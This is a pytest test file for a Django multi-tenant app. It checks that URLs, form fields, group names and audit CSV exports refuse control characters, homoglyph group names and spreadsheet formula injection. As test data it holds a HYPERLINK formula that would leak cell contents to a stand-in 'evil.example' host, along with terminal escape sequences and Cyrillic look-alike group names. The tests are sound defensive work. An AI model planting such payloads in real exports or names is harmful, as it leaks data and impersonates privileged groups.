"""Text that crosses a boundary is clean: no control character in a URL or a form field
reaches a view or the database, no group name passes for another, no audit CSV cell runs
as a formula in a spreadsheet."""

from __future__ import annotations

import csv
import importlib
import io
import json
import pkgutil

import pytest
from django import forms
from django.db import connection
from django.test.utils import CaptureQueriesContext

import tenants.forms
from tenants.forms.base import RefusesControlCharacters
from tenants.models import ApiToken, AuditEvent, Comment, Tenant
from tests.support.admin_forms import onboarding_form
from tests.support.api import api, assert_problem, submit

# The security review's URLs: each was a server error on PostgreSQL, which refuses a NUL in
# text the moment a query carries one.
NUL_URLS = [
    ("/access/?q=%00", "q"),
    ("/access/people/%00/", None),
    ("/tenants/payments/name-preview/?app=%00&tier=%00", "app"),
    ("/tenants/payments/truth/?namespace=%00", "namespace"),
]
# What a hostile URL carries: NUL, an escape sequence for whoever reads the logs in a
# terminal, a right-to-left override that reverses what a name looks like, DEL.
CONTROL_CORPUS = ["\x00", "\x1b", "\u202e", "\x7f", "\n", "\x85", "\u2066"]
BIDI = "\u202e\u2066"


# --- URLs: path and query string -----------------------------------------------------------


@pytest.mark.parametrize(("url", "parameter"), NUL_URLS)
def test_a_nul_in_a_page_url_is_a_400_before_any_query(client, api_world, url, parameter):
    client.force_login(api_world.member)
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url)
    assert response.status_code == 400
    assert "control character (U+0000)" in response.content.decode()
    if parameter:
        assert f"The query parameter {parameter} holds" in response.content.decode()
    # Nothing reached the database (not even the session): PostgreSQL would have no NUL
    # to refuse.
    assert not queries.captured_queries, [q["sql"] for q in queries.captured_queries]


@pytest.mark.parametrize("char", CONTROL_CORPUS)
@pytest.mark.parametrize(
    "page", ["/access/", "/audit/", "/approvals/", "/names/", "/tenants/payments/truth/"]
)
def test_control_characters_in_a_page_query_string_are_a_400(client, api_world, page, char):
    client.force_login(api_world.admin)
    response = client.get(page, {"q": f"pay{char}ments"})
    assert response.status_code == 400
    assert f"(U+{ord(char):04X})" in response.content.decode()
    assert response["Content-Type"].startswith("text/html")


def test_a_control_character_in_a_query_parameter_name_is_a_400(client, api_world):
    client.force_login(api_world.admin)
    response = client.get("/access/?q\x1b=1")
    assert response.status_code == 400
    assert "The name of a query parameter holds a control character (U+001B)" in (
        response.content.decode()
    )


def test_a_page_without_control_characters_is_served_as_before(client, api_world):
    client.force_login(api_world.admin)
    assert client.get("/access/", {"q": "payments owners\u00e9"}).status_code == 200


@pytest.mark.parametrize("char", CONTROL_CORPUS)
@pytest.mark.parametrize("path", ["/api/v1/requests/", "/api/v1/tenants/", "/api/v1/audit-events/"])
def test_control_characters_in_an_api_query_string_are_a_validation_problem(api_world, path, char):
    response = api(api_world.admin).get(path, {"tenant": f"pay{char}ments"})
    body = assert_problem(response, 400, "validation-error")
    kind = "a bidirectional control" if char in BIDI else "a control"
    assert body["detail"] == (
        f"The query parameter tenant holds {kind} character (U+{ord(char):04X})."
    )
    assert body["errors"] == {"tenant": [body["detail"]]}


def test_a_nul_in_an_api_path_is_a_validation_problem_not_a_404(api_world):
    for path in (
        "/api/v1/tenants/%00/",
        "/api/v1/access/groups/pay%00/",
        "/api/v1/tenants/pay%E2%80%AEments/",
    ):
        body = assert_problem(api(api_world.admin).get(path), 400, "validation-error")
        assert "The path holds" in body["detail"]


def test_the_admin_refuses_a_look_alike_group_on_its_field(api_world, rf):
    from django.contrib import admin
    from django.forms.models import model_to_dict

    tenant = api_world.search
    request = rf.get("/admin/")
    request.user = api_world.admin
    TenantForm = admin.site._registry[Tenant].get_form(request, obj=tenant)
    data = {key: value for key, value in model_to_dict(tenant).items() if value is not None}
    data |= {
        field: json.dumps(getattr(tenant, field))
        for field in (
            "owner_groups",
            "member_groups",
            "viewer_groups",
            "allowed_domains",
            "notify_emails",
        )
    }
    data |= {
        "member_groups": json.dumps([*tenant.member_groups, f"p{CYRILLIC_A}yments-owners"]),
        "allowed_clusters": [c.pk for c in tenant.allowed_clusters.all()],
        "allowed_tiers": [t.pk for t in tenant.allowed_tiers.all()],
    }
    form = TenantForm(data=data, instance=tenant)
    assert not form.is_valid()
    assert form.errors["member_groups"] == [
        f"'p{CYRILLIC_A}yments-owners' looks like 'payments-owners' (mixes Latin and Cyrillic)"
    ]


# --- form fields ---------------------------------------------------------------------------


@pytest.mark.parametrize("char", CONTROL_CORPUS)
def test_a_control_character_in_a_page_form_field_is_a_field_error_and_nothing_is_stored(
    client,
    api_world,
    char,
):
    client.force_login(api_world.member)
    page = client.post("/tokens/", {"name": f"ci{char}bot", "scopes": ["read"], "expires": "90"})
    assert page.status_code == 200
    kind = "a bidirectional control" if char in BIDI else "a control"
    assert page.context["form"].errors == {
        "name": [f"This field holds {kind} character (U+{ord(char):04X}): remove it."]
    }
    assert not ApiToken.objects.filter(user=api_world.member).exists()


def test_a_nul_in_a_choice_field_is_a_field_error_before_any_lookup(client, api_world):
    """The onboarding form's clusters are looked up in the database by what was sent."""
    client.force_login(api_world.admin)
    page = client.post(
        "/tenants/new/",
        onboarding_form(
            slug="orders",
            name="Orders",
            clusters=["1\x00"],
            known_hosts="git.example.com ssh-ed25519 AAAA\x00",
        ),
    )
    errors = page.context["form"].errors
    assert errors["clusters"] == ["This field holds a control character (U+0000): remove it."]
    assert errors["known_hosts"] == ["This field holds a control character (U+0000): remove it."]
    assert not Tenant.objects.filter(slug="orders").exists()


def test_a_multi_line_field_keeps_its_tabs_and_line_breaks_and_refuses_escapes(client, api_world):
    request = submit(api_world)
    client.force_login(api_world.member)
    client.post(f"/requests/{request.pk}/comment/", {"body": "Looks fine.\r\n\tShip it."})
    client.post(f"/requests/{request.pk}/comment/", {"body": "\x1b[2J\x1b[31mdone"})
    assert list(Comment.objects.filter(request=request).values_list("body", flat=True)) == [
        "Looks fine.\r\n\tShip it."
    ]


def test_every_page_form_refuses_control_characters():
    """A new form cannot forget it: every form of the pages derives from tenants.forms.base."""
    unchecked = []
    for module in pkgutil.iter_modules(tenants.forms.__path__):
        loaded = importlib.import_module(f"tenants.forms.{module.name}")
        for value in vars(loaded).values():
            if (
                isinstance(value, type)
                and issubclass(value, forms.BaseForm)
                and value.__module__ == loaded.__name__
                and not issubclass(value, RefusesControlCharacters)
            ):
                unchecked.append(f"{loaded.__name__}.{value.__name__}")
    assert not unchecked


# --- the audit CSV -------------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_audit_csv_cells_a_spreadsheet_would_evaluate_are_defused(client, api_world, start):
    """A name a tenant chose ends up in the audit log; opened in a spreadsheet, a cell
    starting with a formula character (or a tab or carriage return before one) must stay
    text: it starts with an apostrophe."""
    hostile = f'{start}HYPERLINK("https://evil.example/?"&A1)'
    AuditEvent.objects.create(
        actor_label=hostile,
        action="tenant.update",
        object_type="tenant",
        object_id="1",
        object_repr=hostile,
        tenant=api_world.payments,
    )
    client.force_login(api_world.admin)
    export = client.get("/audit/", {"format": "csv"})
    rows = list(
        csv.DictReader(io.StringIO(b"".join(export.streaming_content).decode(), newline=""))
    )
    row = next(row for row in rows if row["action"] == "tenant.update")
    assert row["actor"] == row["object"] == f"'{hostile}"


# --- group names ---------------------------------------------------------------------------

CYRILLIC_A = "\u0430"  # а, drawn like Latin a


@pytest.fixture
def platform_group(settings):
    settings.BERTH_PLATFORM_ADMIN_GROUPS = ["platform-admins"]


def onboard(api_world, **groups):
    return api(api_world.admin).post(
        "/api/v1/tenants/", {"slug": "orders", "name": "Orders", **groups}, format="json"
    )


@pytest.mark.parametrize(
    ("field", "name", "message"),
    [
        # Payments' owners are `payments-owners`: this one has a Cyrillic а.
        (
            "owner_groups",
            f"p{CYRILLIC_A}yments-owners",
            f"'p{CYRILLIC_A}yments-owners' looks like 'payments-owners' (mixes Latin and Cyrillic)",
        ),
        # The same script throughout, and still drawn alike: rn for m.
        ("member_groups", "payrnents-owners", "'payrnents-owners' looks like 'payments-owners'"),
        (
            "viewer_groups",
            f"orders-te{CYRILLIC_A}m",
            f"'orders-te{CYRILLIC_A}m' mixes Latin and Cyrillic; write a group's name in one "
            "script",
        ),
        (
            "owner_groups",
            "platform-admins",
            "'platform-admins' is the platform admins' group; a tenant's groups never are",
        ),
        (
            "owner_groups",
            f"platform-{CYRILLIC_A}dmins",
            f"'platform-{CYRILLIC_A}dmins' looks like the platform admins' group 'platform-admins' "
            "(mixes Latin and Cyrillic)",
        ),
        (
            "owner_groups",
            "Platform-Admins",
            "'Platform-Admins' looks like the platform admins' group 'platform-admins'",
        ),
    ],
)
def test_onboarding_over_the_api_refuses_a_group_that_passes_for_another(
    api_world,
    platform_group,
    field,
    name,
    message,
):
    body = assert_problem(onboard(api_world, **{field: [name]}), 400, "validation-error")
    assert body["errors"] == {field: [message]}
    assert not Tenant.objects.filter(slug="orders").exists()


def test_a_group_written_in_compatibility_characters_is_refused_with_its_nfkc_form(api_world):
    """Names are refused, not rewritten: the identity provider sends a group's name as it is
    spelled there, so a name Berth normalised would no longer match the group."""
    body = assert_problem(onboard(api_world, member_groups=["ｐａｙｍｅｎｔｓ-devs"]), 400)
    assert body["errors"] == {
        "member_groups": [
            "'ｐａｙｍｅｎｔｓ-devs' is written with compatibility or decomposed characters: "
            "write it as 'payments-devs' (Unicode NFKC)"
        ]
    }
    assert not Tenant.objects.filter(slug="orders").exists()


def test_two_roles_of_one_tenant_cannot_name_look_alike_groups(api_world):
    body = assert_problem(
        onboard(api_world, owner_groups=["orders-admins"], member_groups=["orders-adrnins"]), 400
    )
    assert set(body["errors"]) == {"owner_groups", "member_groups"}


def test_changing_a_tenant_over_the_api_refuses_a_look_alike_and_keeps_its_groups(api_world):
    response = api(api_world.admin).patch(
        "/api/v1/tenants/search/", {"member_groups": [f"p{CYRILLIC_A}yments-owners"]}, format="json"
    )
    body = assert_problem(response, 400, "validation-error")
    assert "looks like 'payments-owners'" in body["errors"]["member_groups"][0]
    api_world.search.refresh_from_db()
    assert f"p{CYRILLIC_A}yments-owners" not in api_world.search.member_groups


def test_names_in_one_script_and_a_tenants_own_groups_are_accepted(api_world, platform_group):
    # Japanese mixes Han and kana (and Latin), as TR39 allows; ελληνικά is Greek throughout.
    response = onboard(
        api_world,
        owner_groups=["開発チーム", "dev-開発"],
        member_groups=["ελληνικά", "orders-devs"],
    )
    assert response.status_code == 201, response.json()
    # Payments keeps its own groups when they change around them.
    response = api(api_world.admin).patch(
        "/api/v1/tenants/payments/",
        {"owner_groups": ["payments-owners"], "member_groups": ["payments-devs", "paym-devs"]},
        format="json",
    )
    assert response.status_code == 200, response.json()


def test_the_onboarding_form_refuses_a_look_alike_group_on_its_field(client, api_world):
    client.force_login(api_world.admin)
    page = client.post(
        "/tenants/new/",
        onboarding_form(slug="orders", name="Orders", owner_groups=f"p{CYRILLIC_A}yments-owners"),
    )
    assert page.status_code == 200
    errors = page.context["form"].errors
    assert errors["owner_groups"] == [
        f"'p{CYRILLIC_A}yments-owners' looks like 'payments-owners' (mixes Latin and Cyrillic)"
    ]
    assert not Tenant.objects.filter(slug="orders").exists()
